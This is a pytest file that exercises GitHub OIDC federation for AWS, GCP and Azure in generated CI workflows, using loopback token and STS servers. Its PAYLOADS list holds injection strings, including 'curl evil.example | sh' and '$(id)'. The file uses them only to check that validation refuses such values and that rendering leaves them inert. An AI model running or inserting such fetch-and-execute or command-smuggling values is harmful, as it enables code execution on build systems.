"""GitHub OIDC federation for AWS, GCP and Azure, run for real.

The token step of a rendered workflow runs under bash (as GitHub runs ``run:``) against a
loopback stand-in for the Actions token endpoint; the files and environment it leaves are
then read by the clouds' own client libraries (botocore, google-auth, azure-identity),
which exchange the token at loopback STS endpoints where the protocol allows a plain-HTTP
endpoint.
"""

from __future__ import annotations

import json
import os
import stat
import subprocess
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs

import pytest
import yaml
from cloud_token_server import REQUEST_TOKEN, CloudTokenServer, serve
from variants import AZURE_CLIENT_ID, AZURE_TENANT_ID, GCP_PROVIDER, variant

from mlops_spec.render import engine
from mlops_spec.render.escaping import UnsafeValue
from mlops_spec.render.outputs import RenderContext
from mlops_spec.spec.validate import validate_text

CLOUD_VARIANTS = {"aws": "kubernetes-rolling", "gcp": "gcp-oidc", "azure": "azure-oidc"}
AUDIENCES = {"aws": "sts.amazonaws.com", "gcp": f"//iam.googleapis.com/{GCP_PROVIDER}",
             "azure": "api://AzureADTokenExchange"}
CLOUD_VARIABLES = ("AWS_ROLE_ARN", "GOOGLE_APPLICATION_CREDENTIALS", "AZURE_CLIENT_ID",
                   "AZURE_FEDERATED_TOKEN_FILE")
FETCH_STEP = "Get a GitHub OIDC token for the cloud role"
WORKFLOWS = ".github/workflows/mlops-credit-risk-"
RUNNER_TEMP = "${{ runner.temp }}"


def _workflows(name: str, data: dict[str, Any] | None = None) -> dict[str, Any]:
    data = data or variant(name)
    result = validate_text("mlops.yaml", yaml.safe_dump(data, sort_keys=False))
    errors = [f"{d.code} {d.message}" for d in result.diagnostics if d.is_error]
    assert result.spec is not None and not errors, errors
    ctx = RenderContext(spec=result.spec, spec_path="mlops.yaml", model_dir=".")
    files = engine.render(ctx, ["github_actions"]).files
    return {path.removeprefix(WORKFLOWS).removesuffix(".yml"): yaml.safe_load(text)
            for path, (text, _target) in files.items() if path.startswith(WORKFLOWS)}


def _upload_steps(cloud: str) -> tuple[dict[str, Any], dict[str, Any]]:
    """The upload job's token step and the step that writes the store with it."""
    steps = _workflows(CLOUD_VARIANTS[cloud])["deploy"]["jobs"]["upload"]["steps"]
    names = [step["name"] for step in steps]
    store = names.index("Store the artifact")
    assert names[store - 1] == FETCH_STEP
    return steps[store - 1], steps[store]


def _resolved(env: dict[str, str], temp: Path) -> dict[str, str]:
    """A step's env as the runner hands it over: runner.temp filled in, nothing else."""
    out = {name: str(value).replace(RUNNER_TEMP, str(temp)) for name, value in env.items()}
    leftover = [value for value in out.values() if "${{" in value and "secrets." not in value]
    assert not leftover, leftover
    return out


def _run_fetch(step: dict[str, Any], temp: Path, server: CloudTokenServer,
               **extra: str) -> subprocess.CompletedProcess[str]:
    script = temp / "step.sh"
    script.write_text(step["run"], encoding="utf-8")
    env = {"PATH": os.environ["PATH"], "HOME": str(temp), "RUNNER_TEMP": str(temp),
           "ACTIONS_ID_TOKEN_REQUEST_URL": f"{server.url}/actions/token?api-version=2.0",
           "ACTIONS_ID_TOKEN_REQUEST_TOKEN": REQUEST_TOKEN,
           **_resolved(step["env"], temp), **extra}
    # How GitHub runs a `run:` script with the default bash shell.
    return subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)],
                          env=env, capture_output=True, text=True, timeout=60, check=False)


@pytest.fixture
def server() -> Any:
    # Every test that takes it is marked slow: it starts a server and runs bash.
    with serve() as state:
        yield state


@pytest.mark.slow
@pytest.mark.parametrize("cloud", sorted(CLOUD_VARIANTS))
def test_token_step_requests_the_clouds_audience(cloud: str, tmp_path: Path,
                                                  server: CloudTokenServer) -> None:
    fetch, use = _upload_steps(cloud)
    done = _run_fetch(fetch, tmp_path, server)
    assert done.returncode == 0, done.stderr
    [request] = server.to("/actions/")
    assert request.method == "GET"
    assert request.headers["authorization"] == f"bearer {REQUEST_TOKEN}"
    assert request.query["audience"] == [AUDIENCES[cloud]]
    assert request.query["api-version"] == ["2.0"], "the endpoint's own query is kept"
    token_file = tmp_path / "mlops-oidc-token"
    assert token_file.read_text(encoding="utf-8") == server.issued[0], "no trailing newline"
    assert stat.S_IMODE(token_file.stat().st_mode) == 0o600
    assert server.issued[0] not in done.stdout + done.stderr, "the token is never printed"
    env = _resolved(use["env"], tmp_path)
    token_variable = {"aws": "AWS_WEB_IDENTITY_TOKEN_FILE", "azure": "AZURE_FEDERATED_TOKEN_FILE",
                      "gcp": "GOOGLE_APPLICATION_CREDENTIALS"}[cloud]
    assert Path(env[token_variable]).is_file()


@pytest.mark.slow
def test_gcp_credential_configuration(tmp_path: Path, server: CloudTokenServer) -> None:
    fetch, use = _upload_steps("gcp")
    assert _run_fetch(fetch, tmp_path, server).returncode == 0
    env = _resolved(use["env"], tmp_path)
    path = Path(env["GOOGLE_APPLICATION_CREDENTIALS"])
    assert env["CLOUDSDK_AUTH_CREDENTIAL_FILE_OVERRIDE"] == str(path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    config = json.loads(path.read_text(encoding="utf-8"))
    assert config == {
        "type": "external_account",
        "audience": f"//iam.googleapis.com/{GCP_PROVIDER}",
        "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
        "token_url": "https://sts.googleapis.com/v1/token",
        "credential_source": {"file": str(tmp_path / "mlops-oidc-token"),
                              "format": {"type": "text"}},
        "service_account_impersonation_url": (
            "https://iamcredentials.googleapis.com/v1/projects/-/serviceAccounts/"
            "mlops-credit-risk@acme-ml.iam.gserviceaccount.com:generateAccessToken"),
    }


@pytest.mark.slow
def test_google_auth_exchanges_the_token(tmp_path: Path, server: CloudTokenServer) -> None:
    pytest.importorskip("google.auth")
    from google.auth import identity_pool
    from google.auth.transport.requests import Request

    fetch, use = _upload_steps("gcp")
    assert _run_fetch(fetch, tmp_path, server).returncode == 0
    path = Path(_resolved(use["env"], tmp_path)["GOOGLE_APPLICATION_CREDENTIALS"])
    # The loader for this credential type (the generic one would also look the project
    # up on the network).
    credentials = identity_pool.Credentials.from_file(str(path))
    assert credentials.service_account_email == (
        "mlops-credit-risk@acme-ml.iam.gserviceaccount.com")
    assert credentials.retrieve_subject_token(None) == server.issued[0]
    # The same configuration with Google's endpoints moved to the loopback server: the
    # token exchange google-auth performs from it, request by request.
    config = json.loads(path.read_text(encoding="utf-8"))
    config["token_url"] = f"{server.url}/gcp/sts"
    config["service_account_impersonation_url"] = config[
        "service_account_impersonation_url"].replace(
        "https://iamcredentials.googleapis.com", f"{server.url}/gcp/iam")
    local = tmp_path / "loopback-credentials.json"
    local.write_text(json.dumps(config), encoding="utf-8")
    credentials = identity_pool.Credentials.from_file(
        str(local), scopes=["https://www.googleapis.com/auth/devstorage.read_write"])
    credentials.refresh(Request())
    assert credentials.token == "impersonated-access-token"
    [exchange] = server.to("/gcp/sts")
    form = parse_qs(exchange.body)
    assert form["grant_type"] == ["urn:ietf:params:oauth:grant-type:token-exchange"]
    assert form["subject_token"] == [server.issued[0]]
    assert form["audience"] == [f"//iam.googleapis.com/{GCP_PROVIDER}"]
    assert form["subject_token_type"] == ["urn:ietf:params:oauth:token-type:jwt"]
    [impersonation] = server.to("/gcp/iam/")
    assert impersonation.path.endswith(
        "/serviceAccounts/mlops-credit-risk@acme-ml.iam.gserviceaccount.com"
        ":generateAccessToken")
    assert impersonation.headers["authorization"] == "Bearer federated-access-token"


@pytest.mark.slow
def test_gcp_direct_resource_access_needs_no_service_account(
        tmp_path: Path, server: CloudTokenServer) -> None:
    pytest.importorskip("google.auth")
    from google.auth import identity_pool

    data = variant("gcp-oidc")
    del data["ci"]["oidc_role"]["service_account"]
    steps = _workflows("gcp-oidc", data)["deploy"]["jobs"]["upload"]["steps"]
    [fetch] = [step for step in steps if step["name"] == FETCH_STEP]
    assert "IMPERSONATION_URL" not in fetch["env"]
    assert _run_fetch(fetch, tmp_path, server).returncode == 0
    path = tmp_path / "mlops-gcp-credentials.json"
    config = json.loads(path.read_text(encoding="utf-8"))
    assert "service_account_impersonation_url" not in config
    credentials = identity_pool.Credentials.from_file(str(path))
    assert credentials.service_account_email is None
    assert credentials.retrieve_subject_token(None) == server.issued[0]


@pytest.mark.slow
def test_botocore_assumes_the_role(tmp_path: Path, server: CloudTokenServer,
                                   monkeypatch: pytest.MonkeyPatch) -> None:
    pytest.importorskip("botocore")
    import botocore.session

    fetch, use = _upload_steps("aws")
    assert _run_fetch(fetch, tmp_path, server).returncode == 0
    for name in list(os.environ):
        if name.startswith("AWS_"):
            monkeypatch.delenv(name)
    monkeypatch.setenv("AWS_CONFIG_FILE", str(tmp_path / "no-config"))
    monkeypatch.setenv("AWS_SHARED_CREDENTIALS_FILE", str(tmp_path / "no-credentials"))
    monkeypatch.setenv("AWS_DEFAULT_REGION", "us-east-1")
    monkeypatch.setenv("AWS_EC2_METADATA_DISABLED", "true")
    monkeypatch.setenv("AWS_ENDPOINT_URL_STS", f"{server.url}/aws/")
    env = _resolved(use["env"], tmp_path)
    for name in ("AWS_ROLE_ARN", "AWS_WEB_IDENTITY_TOKEN_FILE"):
        monkeypatch.setenv(name, env[name])
    credentials = botocore.session.Session().get_credentials()
    assert credentials is not None
    frozen = credentials.get_frozen_credentials()
    assert frozen.access_key == "ASIAFEDERATED0000001"
    [assume] = server.to("/aws/")
    form = parse_qs(assume.body)
    assert form["Action"] == ["AssumeRoleWithWebIdentity"]
    assert form["RoleArn"] == ["arn:aws:iam::123456789012:role/mlops-credit-risk"]
    assert form["WebIdentityToken"] == [server.issued[0]]


@pytest.mark.slow
def test_azure_identity_reads_the_federated_token(tmp_path: Path, server: CloudTokenServer,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    pytest.importorskip("azure.identity")
    from azure.identity import WorkloadIdentityCredential

    fetch, use = _upload_steps("azure")
    assert _run_fetch(fetch, tmp_path, server).returncode == 0
    env = _resolved(use["env"], tmp_path)
    assert env["AZURE_CLIENT_ID"] == AZURE_CLIENT_ID
    assert env["AZURE_TENANT_ID"] == AZURE_TENANT_ID
    assert env["AZURE_STORAGE_ACCOUNT_NAME"] == "acmemodels"
    assert env["AZURE_STORAGE_ANON"] == "false", "else adlfs never asks azure-identity"
    for name in ("AZURE_CLIENT_ID", "AZURE_TENANT_ID", "AZURE_FEDERATED_TOKEN_FILE"):
        monkeypatch.setenv(name, env[name])
    credential = WorkloadIdentityCredential()  # from the environment alone, or ValueError
    # What it sends as the client assertion (Entra's token endpoint is https-only, so
    # the exchange itself is not replayed here).
    assert credential._get_service_account_token() == server.issued[0]


@pytest.mark.slow
def test_token_step_fails_clearly_without_id_token_permission(
        tmp_path: Path, server: CloudTokenServer) -> None:
    fetch, _use = _upload_steps("aws")
    done = _run_fetch(fetch, tmp_path, server, ACTIONS_ID_TOKEN_REQUEST_URL="")
    assert done.returncode == 1
    assert "::error::" in done.stdout and "id-token: write" in done.stdout
    assert not server.requests


@pytest.mark.slow
def test_token_step_fails_on_a_refused_request(tmp_path: Path,
                                               server: CloudTokenServer) -> None:
    fetch, _use = _upload_steps("azure")
    done = _run_fetch(fetch, tmp_path, server, ACTIONS_ID_TOKEN_REQUEST_TOKEN="wrong")
    assert done.returncode != 0
    assert "401" in done.stderr


@pytest.mark.parametrize("cloud", sorted(CLOUD_VARIANTS))
def test_only_upload_and_push_deploys_get_an_id_token(cloud: str) -> None:
    workflows = _workflows(CLOUD_VARIANTS[cloud])
    holders = {f"{name}/{job_id}" for name, workflow in workflows.items()
               for job_id, job in workflow["jobs"].items()
               if job.get("permissions", {}).get("id-token") == "write"}
    expected = {"deploy/upload"}
    if cloud != "azure":  # the Azure variant is embedded: nothing is applied to a cluster
        expected |= {"deploy/deploy-staging", "deploy/deploy-production"}
    assert holders == expected
    # Every holder fetches the token the same way, right before the steps that use it.
    deploy = workflows["deploy"]["jobs"]
    fetches = [[step for step in deploy[holder.split("/")[1]]["steps"]
                if step["name"] == FETCH_STEP] for holder in sorted(holders)]
    assert all(len(found) == 1 and found[0] == fetches[0][0] for found in fetches)
    for name, workflow in workflows.items():
        for job_id, job in workflow["jobs"].items():
            if f"{name}/{job_id}" in holders:
                continue
            text = yaml.safe_dump(job)
            assert not any(variable in text for variable in CLOUD_VARIABLES), (name, job_id)


@pytest.mark.parametrize("cloud", sorted(CLOUD_VARIANTS))
def test_spec_values_reach_scripts_only_through_env(cloud: str) -> None:
    role = variant(CLOUD_VARIANTS[cloud])["ci"]["oidc_role"]
    values = [role] if isinstance(role, str) else [v for k, v in role.items() if k != "cloud"]
    for workflow in _workflows(CLOUD_VARIANTS[cloud]).values():
        for job in workflow["jobs"].values():
            for step in job["steps"]:
                for value in values:
                    assert value not in step.get("run", ""), (step["name"], value)


# --- untrusted values: refused by validation, inert if validation were skipped ------------

PAYLOADS = ["${{ github.event.pull_request.title }}", "$(id)", 'x" && curl evil.example | sh',
            "x' || true; echo '", "x\n      - run: curl evil.example | sh"]
ROLE_FIELDS = [(cloud, name) for cloud, variant_name in sorted(CLOUD_VARIANTS.items())
               if isinstance(role := variant(variant_name)["ci"]["oidc_role"], dict)
               for name in role if name != "cloud"] + [("aws", "role_arn")]


def _with_role_value(cloud: str, name: str, value: str) -> dict[str, Any]:
    data = variant(CLOUD_VARIANTS[cloud])
    role = data["ci"]["oidc_role"]
    if isinstance(role, str):
        data["ci"]["oidc_role"] = value  # the AWS shorthand
    else:
        role[name] = value
    return data


@pytest.mark.parametrize(("cloud", "name"), ROLE_FIELDS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_oidc_values_with_shell_or_expression_text_are_refused(cloud: str, name: str,
                                                               payload: str) -> None:
    data = _with_role_value(cloud, name, payload)
    result = validate_text("mlops.yaml", yaml.safe_dump(data, sort_keys=False))
    errors = [d for d in result.diagnostics if d.is_error]
    assert errors and all(d.line is not None for d in errors)
    assert any(tuple(d.path)[:2] == ("ci", "oidc_role") for d in errors), errors


@pytest.mark.parametrize(("cloud", "name"), ROLE_FIELDS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_unvalidated_oidc_values_render_inert(cloud: str, name: str, payload: str) -> None:
    data = variant(CLOUD_VARIANTS[cloud])
    result = validate_text("mlops.yaml", yaml.safe_dump(data, sort_keys=False))
    assert result.spec is not None and result.spec.ci.oidc_role is not None
    field = "role_arn" if isinstance(data["ci"]["oidc_role"], str) else name
    role = result.spec.ci.oidc_role.model_copy(update={field: payload})
    spec = result.spec.model_copy(update={
        "ci": result.spec.ci.model_copy(update={"oidc_role": role})})
    ctx = RenderContext(spec=spec, spec_path="mlops.yaml", model_dir=".")
    try:
        files = engine.render(ctx, ["github_actions"]).files
    except UnsafeValue:
        return  # refused by the escaping filter: nothing was produced
    texts = [text for path, (text, _target) in files.items() if path.startswith(WORKFLOWS)]
    found = False
    for text in texts:
        workflow = yaml.safe_load(text)
        for job in workflow["jobs"].values():
            for step in job["steps"]:
                assert payload not in step.get("run", "")
                found = found or any(payload in str(v) for v in step.get("env", {}).values())
        if "\n" in payload:
            assert payload.splitlines()[1] not in text.splitlines()
    assert found, "the value should come back whole, in an env: value"
